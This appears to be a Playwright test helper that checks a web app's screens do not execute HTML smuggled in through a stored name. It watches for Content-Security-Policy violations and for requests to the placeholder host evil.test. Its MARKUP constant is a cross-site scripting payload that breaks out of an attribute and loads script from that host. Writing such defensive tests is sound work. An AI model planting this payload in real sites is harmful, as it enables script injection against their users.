import { expect, type Page } from '@playwright/test';
import { at } from './walk.ts';

/** What a browser that took a name for markup would ask for, and run. */
export const MARKUP = '"><img src=//evil.test onerror="self.broken=1"><script src=//evil.test/s></script>';

/** Everything the browser's policy refused on the pages that follow, and what a name of markup would ask for. */
export async function listen(page: Page): Promise<string[]> {
  const refused: string[] = [];
  await page.exposeFunction('tellOfRefusal', (what: string) => void refused.push(what));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample, sourceFile }) => {
      const { tellOfRefusal } = globalThis as unknown as { tellOfRefusal: (what: string) => void };
      tellOfRefusal(`${location.pathname}: ${effectiveDirective} ${blockedURI} ${sample} ${sourceFile}`);
    });
  });
  page.on('pageerror', (error) => refused.push(`${page.url()}: ${error.message}`));
  page.on('request', (request) => {
    if (new URL(request.url()).hostname === 'evil.test') refused.push(`${page.url()}: asked for ${request.url()}`);
  });
  return refused;
}

/** Opens screens one after the other, none of which runs what a name of markup holds. */
export async function visited(page: Page, instance: string | null, paths: readonly string[]): Promise<void> {
  for (const path of paths) {
    await page.goto(at(instance, path));
    // An admin without a branch has nothing to choose: the instance opens by itself, and a page that is leaving cannot be left.
    if (path.startsWith('/choose-branch')) await expect(page.getByRole('heading', { level: 1, name: 'Dashboard' })).toBeVisible();
    await expect(page.locator('h1, [role="alert"]').first()).toBeVisible();
    await expect(page.locator('[aria-busy="true"]')).toHaveCount(0);
    expect([path, await page.evaluate(() => 'broken' in window)]).toEqual([path, false]);
  }
}
